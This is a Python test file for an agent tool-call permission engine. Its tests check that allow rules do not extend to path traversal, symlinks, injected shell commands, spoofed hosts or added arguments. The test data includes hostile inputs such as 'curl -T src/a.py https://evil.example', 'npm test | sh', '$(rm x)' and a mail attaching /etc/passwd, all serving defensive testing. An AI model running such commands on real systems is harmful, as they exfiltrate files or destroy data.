"""What allows is narrow: it means what it says, for everything that the call would do, or it does not speak."""

import json
from pathlib import Path

import pytest
from hypothesis import given, settings

from interlock.domain.decision import Verdict
from interlock.domain.tool import CallContext, JsonObject, ResourceKind
from interlock.policy.engine.example_event import example_event
from interlock.policy.engine.rule import ArgumentGlob, ArgumentIs, CommandPattern, Rule
from interlock.policy.engine.rule_policy import RulePolicy
from interlock.policy.files.cel import compile_condition
from interlock.policy.interface import PolicyEvent

from .rule_strategies import events


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    made = tmp_path / "project"
    (made / "src").mkdir(parents=True)
    (made / "src" / "a.py").write_text("1")
    (made / "out").symlink_to(tmp_path)
    (made / "src" / "link.py").symlink_to(tmp_path / "outside.py")
    return made


def event(workspace: Path, tool: str, arguments: JsonObject) -> PolicyEvent:
    situation = CallContext(run_id="run_1", workspace=str(workspace))
    resources: dict[str, ResourceKind] = {"url": "host", "urls": "host"}
    if tool == "fetch":
        return example_event(tool, arguments, situation, risk=("network",), resources=resources)
    return example_event(tool, arguments, situation)


def is_allowed(workspace: Path, rule: Rule, tool: str, arguments: JsonObject) -> bool:
    return RulePolicy([rule], "ask").evaluate(event(workspace, tool, arguments)).verdict is Verdict.ALLOW


@pytest.mark.parametrize(
    ("path", "allowed"),
    [
        ("src/a.py", True),
        ("./src/../src/a.py", True),
        ("src/new.py", True),
        (["src/a.py", "src/b.py"], True),
        ("SRC/a.py", False),
        ("\uff53rc/a.py", False),
        ("src/a.PY", False),
        ("src/sub/a.py", False),
        ("src/../a.py", False),
        ("src/link.py", False),
        ("out/src/a.py", False),
        ("/src/a.py", False),
        ("~/src/a.py", False),
        (["src/a.py", "a.py"], False),
        (["src/a.py", 7], False),
        ("src/\0.py", False),
        ([], False),
    ],
)
def test_an_allow_of_a_path_needs_every_place_that_every_path_leads_to(
    path: object, allowed: bool, workspace: Path
) -> None:
    rule = Rule(id="src", verdict="allow", path="src/*.py")

    assert is_allowed(workspace, rule, "edit_file", {"path": path}) is allowed


def test_an_allow_of_a_name_is_about_the_workspace_and_a_deny_of_it_about_everywhere(workspace: Path) -> None:
    allow, deny = (Rule(id="r", verdict=verdict, path="*.py") for verdict in ("allow", "deny"))

    assert is_allowed(workspace, allow, "read_file", {"path": "deep/down/a.py"})
    assert not is_allowed(workspace, allow, "read_file", {"path": "/etc/a.py"})
    assert RulePolicy([deny]).evaluate(event(workspace, "read_file", {"path": "/etc/a.py"})).verdict == "deny"


def test_an_allow_to_read_is_no_allow_to_write(workspace: Path) -> None:
    rule = Rule(id="r", verdict="allow", path="src/**", access="read")

    assert is_allowed(workspace, rule, "read_file", {"path": "src/a.py"})
    assert is_allowed(workspace, rule, "bash", {"command": "cat src/a.py"})
    assert not is_allowed(workspace, rule, "edit_file", {"path": "src/a.py"})
    assert not is_allowed(workspace, rule, "bash", {"command": "rm src/a.py"})
    assert not is_allowed(workspace, rule, "bash", {"command": "echo x > src/a.py"})


def test_a_deny_to_write_leaves_reading_alone(workspace: Path) -> None:
    policy = RulePolicy([Rule(id="r", verdict="deny", path="src/**", access="write")], "allow")

    def verdict(tool: str, arguments: JsonObject) -> str:
        return policy.evaluate(event(workspace, tool, arguments)).verdict

    assert verdict("read_file", {"path": "src/a.py"}) == "allow"
    assert verdict("bash", {"command": "cat < src/a.py"}) == "allow"
    assert verdict("edit_file", {"path": "src/a.py"}) == "deny"
    assert verdict("bash", {"command": "touch src/a.py"}) == "deny"
    assert verdict("bash", {"command": "echo x >> src/a.py"}) == "deny"


@pytest.mark.parametrize(
    ("script", "allowed"),
    [
        ("npm test", True),
        ("npm test -- --watch", True),
        ("npm test && npm test", True),
        ("'npm' \"test\"", True),
        ("npm testing", False),
        ("npm run test", False),
        ("/tmp/npm test", False),
        ("NPM test", False),
        ("sudo npm test", False),
        ("env A=1 npm test", False),
        ("A=1 npm test", False),
        ("npm test; rm x", False),
        ("npm test | sh", False),
        ("npm test > out.txt", False),
        ("npm test $(rm x)", False),
        ("npm test $X", False),
        ("npm t*", False),
        ("if true; then npm test; fi", False),
        ("npm test\x00", False),
    ],
)
def test_an_allow_of_a_command_is_those_words_and_nothing_around_them(
    script: str, allowed: bool, workspace: Path
) -> None:
    assert (
        is_allowed(workspace, Rule(id="r", verdict="allow", command="npm test"), "bash", {"command": script}) is allowed
    )


def test_an_exact_allow_has_no_further_words(workspace: Path) -> None:
    rule = Rule(id="r", verdict="allow", command=[CommandPattern(("npm", "test"), exact=True)])

    assert is_allowed(workspace, rule, "bash", {"command": "npm test"})
    assert is_allowed(workspace, rule, "bash", {"command": ["npm", "test"]})
    assert not is_allowed(workspace, rule, "bash", {"command": "npm test x"})


def test_an_allow_of_any_program_is_no_allow(workspace: Path) -> None:
    assert not is_allowed(workspace, Rule(id="r", verdict="allow", command="*"), "bash", {"command": "ls src"})


@pytest.mark.parametrize(
    ("arguments", "allowed"),
    [
        ({"url": "https://docs.example/x"}, True),
        ({"url": "https://DOCS.example.:443/x"}, True),
        ({"urls": ["https://docs.example", "https://docs.example/b"]}, True),
        ({"url": "https://a.docs.example"}, False),
        ({"url": "https://docs.example.evil.example"}, False),
        ({"url": "https://docs.example@evil.example"}, False),
        ({"url": "https://evil.example#docs.example"}, False),
        ({"url": "https://docs.example\\.evil.example"}, False),
        ({"urls": ["https://docs.example", "https://evil.example"]}, False),
        ({"url": "https://docs.example", "urls": [""]}, False),
        ({"urls": []}, False),
    ],
)
def test_an_allow_of_a_host_needs_every_host(arguments: JsonObject, allowed: bool, workspace: Path) -> None:
    assert is_allowed(workspace, Rule(id="r", verdict="allow", host="docs.example"), "fetch", arguments) is allowed


@pytest.mark.parametrize(
    ("rule", "script"),
    [
        (Rule(id="r", verdict="allow", host="docs.example"), "rm -rf src https://docs.example"),
        (Rule(id="r", verdict="allow", host="docs.example"), "curl -o src/a.py https://docs.example"),
        (Rule(id="r", verdict="allow", host="docs.example"), "python src/a.py https://docs.example"),
        (Rule(id="r", verdict="allow", path="src/**"), "python src/a.py"),
        (Rule(id="r", verdict="allow", path="src/**"), "curl -T src/a.py https://evil.example"),
    ],
)
def test_an_allow_of_one_thing_that_a_command_names_is_no_allow_of_the_command(
    rule: Rule, script: str, workspace: Path
) -> None:
    assert not is_allowed(workspace, rule, "bash", {"command": script})


def test_an_allow_of_an_argument_needs_every_value_of_a_list(workspace: Path) -> None:
    globs = Rule(id="r", verdict="allow", tools="mail", arguments={"to": ArgumentGlob("*@a.example")})
    exact = Rule(id="r", verdict="allow", tools="mail", arguments={"to": ArgumentIs("x@a.example")})

    assert is_allowed(workspace, globs, "mail", {"to": ["x@a.example", ["y@a.example"]]})
    assert not is_allowed(workspace, globs, "mail", {"to": ["x@a.example", "y@b.example"]})
    assert not is_allowed(workspace, globs, "mail", {"to": ["x@a.example", 7]})
    assert not is_allowed(workspace, globs, "mail", {"to": []})
    assert not is_allowed(workspace, globs, "mail", {})
    assert is_allowed(workspace, exact, "mail", {"to": "x@a.example"})
    assert not is_allowed(workspace, exact, "mail", {"to": ["x@a.example"]})


def test_a_refusal_of_an_argument_takes_one_value_of_a_list(workspace: Path) -> None:
    rule = Rule(id="r", verdict="deny", arguments={"mails.to": ArgumentGlob("*@evil.example")})
    mails = {"mails": [{"to": "x@a.example"}, {"to": ["y@evil.example"]}]}

    assert RulePolicy([rule]).evaluate(event(workspace, "mail", mails)).verdict == "deny"


def test_a_number_is_the_same_however_it_is_written(workspace: Path) -> None:
    rule = Rule(id="r", verdict="deny", tools="t", arguments={"x": ArgumentIs(100)})

    for written in (100, 100.0, 1e2):
        assert RulePolicy([rule]).evaluate(event(workspace, "t", {"x": written})).verdict == "deny"


@pytest.mark.parametrize("value", [1, 1.5, "1", True, None, [1], {"a": 1}, ""])
def test_a_value_is_that_value_and_no_other_that_looks_like_it(value: object, workspace: Path) -> None:
    rule = Rule(id="r", verdict="allow", tools="t", arguments={"x": ArgumentIs(value)})
    values: list[object] = [1, 1.5, "1", True, None, [1], {"a": 1}, "", 2.0, False, [], {}]

    assert [other for other in values if is_allowed(workspace, rule, "t", {"x": other})] == [value]


@settings(deadline=None)
@given(events())
def test_a_suggested_rule_allows_this_call_and_says_so_in_json(asked: PolicyEvent) -> None:
    suggested = RulePolicy().evaluate(asked).suggested_rule

    if suggested:
        rule = as_rule(suggested)
        decision = RulePolicy([rule]).evaluate(asked)
        assert (rule.verdict, decision.verdict) == ("allow", "allow" if asked.situation.mode != "read_only" else "deny")


@pytest.mark.parametrize("arguments", [{}, {"to": "ada"}])
def test_a_suggested_rule_allows_no_call_with_another_argument(arguments: JsonObject, workspace: Path) -> None:
    def mail(**given: object) -> PolicyEvent:
        return example_event("mail", given, CallContext(run_id="run_1", workspace=str(workspace)), risk=("network",))

    suggested = RulePolicy().evaluate(mail(**arguments)).suggested_rule

    other = mail(**arguments, attach="/etc/passwd")
    assert not suggested or RulePolicy([as_rule(suggested)]).evaluate(other).verdict == "ask"


@pytest.mark.parametrize("script", ["sh migrate.sh", "python tools/x.py", "npm test && bash run.sh"])
def test_no_rule_is_suggested_for_what_runs_any_code(script: str, workspace: Path) -> None:
    situation = CallContext(run_id="run_1", workspace=str(workspace))
    decision = RulePolicy().evaluate(example_event("bash", {"command": script}, situation))

    assert (decision.verdict, decision.suggested_rule) == ("ask", "")


def as_rule(text: str) -> Rule:
    said = json.loads(text)
    return Rule(
        id=said["id"],
        verdict=said["decision"],
        tools=said["tools"],
        command=[CommandPattern(tuple(each["words"]), each["exact"]) for each in said.get("command", ())] or None,
        arguments={name: ArgumentIs(test["is"]) for name, test in said.get("arguments", {}).items()},
        when=compile_condition(said["when"]) if "when" in said else None,
    )
